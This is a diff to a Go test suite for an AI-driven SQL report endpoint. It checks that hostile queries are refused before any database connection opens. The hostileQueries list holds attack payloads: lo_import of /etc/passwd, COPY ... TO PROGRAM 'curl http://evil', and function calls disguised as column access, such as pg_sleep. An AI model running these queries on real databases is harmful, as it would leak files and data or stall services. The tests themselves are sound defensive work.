@@ -2,6 +2,7 @@ package httpapi_test
 
 import (
 	"bytes"
+	"context"
 	"database/sql"
 	"encoding/json"
 	"fmt"
@@ -11,9 +12,12 @@ import (
 	"net/http/httptest"
 	"strings"
 	"sync"
+	"sync/atomic"
 	"testing"
 	"time"
 
+	"github.com/jackc/pgx/v5"
+	"github.com/jackc/pgx/v5/stdlib"
 	"github.com/loyaltylinks/platform/loyalty/internal/aiquery"
 	"github.com/loyaltylinks/platform/loyalty/internal/httpapi"
 	"github.com/loyaltylinks/platform/loyalty/migrations"
@@ -24,9 +28,16 @@ import (
 	"github.com/xuri/excelize/v2"
 )
 
+// reportPool is the report queries' own pool. Each report query opens a connection and
+// closes it; connects counts them, so tests can tell whether anything ran.
+type reportPool struct {
+	*sql.DB
+	connects *atomic.Int64
+}
+
 // newAIEnv is newTestEnv with a report-query service of the test's choosing. Report
 // queries run on their own pool, returned so tests can tell whether anything ran.
-func newAIEnv(t *testing.T, opts aiquery.Options) (*testEnv, *sql.DB) {
+func newAIEnv(t *testing.T, opts aiquery.Options) (*testEnv, reportPool) {
 	t.Helper()
 	url := testkit.NewDatabase(t)
 	db, err := database.Open(url, database.Options{Schema: migrations.Schema, MaxOpenConns: 10})
@@ -35,12 +46,18 @@ func newAIEnv(t *testing.T, opts aiquery.Options) (*testEnv, *sql.DB) {
 	}
 	sqlDB, _ := db.DB()
 	t.Cleanup(func() { sqlDB.Close() })
-	reportDB, err := database.OpenSQL(url, database.Options{MaxOpenConns: 2})
+	pgxCfg, err := pgx.ParseConfig(url)
 	if err != nil {
 		t.Fatal(err)
 	}
+	reportDB := reportPool{connects: new(atomic.Int64)}
+	reportDB.DB = stdlib.OpenDB(*pgxCfg, stdlib.OptionAfterConnect(func(context.Context, *pgx.Conn) error {
+		reportDB.connects.Add(1)
+		return nil
+	}))
+	reportDB.SetMaxOpenConns(2)
 	t.Cleanup(func() { reportDB.Close() })
-	opts.ReportDB = reportDB
+	opts.ReportDB = reportDB.DB
 	ai, err := aiquery.NewService(db, opts)
 	if err != nil {
 		t.Fatal(err)
@@ -280,6 +297,13 @@ var hostileQueries = []string{
 	"SELECT pg_ls_dir('.')",
 	"SELECT lo_import('/etc/passwd')",
 	"SELECT lo_export(1, '/tmp/x')",
+	// function calls in disguise: (x).f and rel.f are f(x) in Postgres
+	"SELECT ((10)::float8).pg_sleep",
+	"SELECT (4242::int8).pg_advisory_lock",
+	"SELECT ('SELECT ''a''::tsvector FROM loyalty.users'::text).ts_stat",
+	"SELECT x.ts_stat FROM (SELECT 'SELECT 1'::text AS q) x",
+	"SELECT c.row_to_json FROM customers c",
+	"SELECT name FROM customers ORDER BY name USING OPERATOR(public.<)",
 	"COPY customers TO '/tmp/customers.csv'",
 	"COPY (SELECT * FROM customers) TO PROGRAM 'curl http://evil'",
 	"COPY customers FROM '/etc/passwd'",
@@ -366,16 +390,20 @@ func TestAIExecuteRefusesHostileQueriesBeforeRunningThem(t *testing.T) {
 		t.Fatalf("data changed:\nbefore %s\nafter  %s", before, after)
 	}
 	// Nothing ran: the report pool never opened a connection.
-	if st := reportDB.Stats(); st.OpenConnections != 0 || st.InUse != 0 {
-		t.Fatalf("report pool was used: %+v", st)
+	if n := reportDB.connects.Load(); n != 0 {
+		t.Fatalf("report pool opened %d connections", n)
 	}
 	// The control: an ordinary query does use it (so the check above can fail).
 	res := env.do(http.MethodPost, "/api/v1/ai/execute-query", tok, map[string]any{"query": "SELECT count(*) AS total FROM customers"})
 	if res.Status != http.StatusOK || !strings.Contains(string(res.Body), `"total: 4"`) {
 		t.Fatalf("control query: %d %s", res.Status, res.Body)
 	}
-	if reportDB.Stats().OpenConnections == 0 {
+	if reportDB.connects.Load() == 0 {
 		t.Fatal("the control query did not use the report pool")
+	}
+	// and the connection it used is closed, not kept for the next query.
+	if st := reportDB.Stats(); st.OpenConnections != 0 {
+		t.Fatalf("the report connection was kept: %+v", st)
 	}
 }
 
